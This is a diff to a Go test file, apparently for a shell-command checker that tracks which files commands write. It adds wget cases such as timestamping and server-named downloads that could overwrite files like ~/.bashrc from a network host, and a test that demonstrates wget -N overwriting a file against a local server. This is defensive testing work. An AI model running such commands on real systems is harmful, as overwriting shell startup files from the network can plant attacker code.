@@ -1,8 +1,14 @@
 package builtin
 
 import (
+	"net/http"
+	"net/http/httptest"
+	"os"
 	"os/exec"
+	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 )
 
 // innocentWrites are lines that write a file through a program's operand
@@ -77,6 +83,15 @@ func TestShellKeysNameFilesProgramsWrite(t *testing.T) {
 		{"wget -O ~/.bashrc http://x.test/", []string{">~/.bashrc", "wget"}},
 		{"wget -P ~/.config/autostart http://x.test/a.desktop", []string{">~/.config/autostart", "wget"}},
 		{"wget -e output_document=x http://x.test/", nil},
+		{"wget -N http://x.test/.bashrc", nil},
+		{"wget -qNx -nH http://x.test/.git/config", nil},
+		{"wget --timestamp http://x.test/.bashrc", nil},
+		{"wget -c http://x.test/Makefile", nil},
+		{"wget -r -nd http://x.test/", nil},
+		{"wget --mirror http://x.test/", nil},
+		{"wget -p http://x.test/", nil},
+		{"wget --content-disposition http://x.test/a", nil},
+		{"wget --trust-server-names http://x.test/a", nil},
 		{"printf x | sponge ~/.bashrc", []string{">~/.bashrc", "printf", "sponge"}},
 		{"iconv -f utf8 -t ascii -o ~/.bashrc f", []string{">~/.bashrc", "iconv"}},
 		{"iconv --output=~/.bashrc f", []string{">~/.bashrc", "iconv"}},
@@ -154,4 +169,34 @@ func TestCurlGlobWritesRunUnderBash(t *testing.T) {
 		t.Skip("needs curl to run its attack line")
 	}
 	checkRunsTouch(t, bashPath(t), `: > ed; curl -s "file://$PWD/{ed}" -o 'pwn#1'`)
+}
+
+// TestWgetTimestampingOverwritesUnderBash: wget, which saves a file that
+// exists as FILE.1, overwrites it with -N when the server says its copy
+// is newer, as a redirection would.
+func TestWgetTimestampingOverwritesUnderBash(t *testing.T) {
+	bash := bashPath(t)
+	if _, err := exec.LookPath("wget"); err != nil {
+		t.Skip("needs wget to run its attack line")
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.ServeContent(w, r, "target", time.Unix(2e9, 0), strings.NewReader("new"))
+	}))
+	defer srv.Close()
+	dir := t.TempDir()
+	target := filepath.Join(dir, "target")
+	if err := os.WriteFile(target, []byte("old"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chtimes(target, time.Unix(1e9, 0), time.Unix(1e9, 0)); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(bash, "-c", "wget -q -N "+srv.URL+"/target")
+	cmd.Dir = dir
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("wget: %v: %s", err, out)
+	}
+	if got, _ := os.ReadFile(target); string(got) != "new" {
+		t.Errorf("target holds %q, want it overwritten", got)
+	}
 }
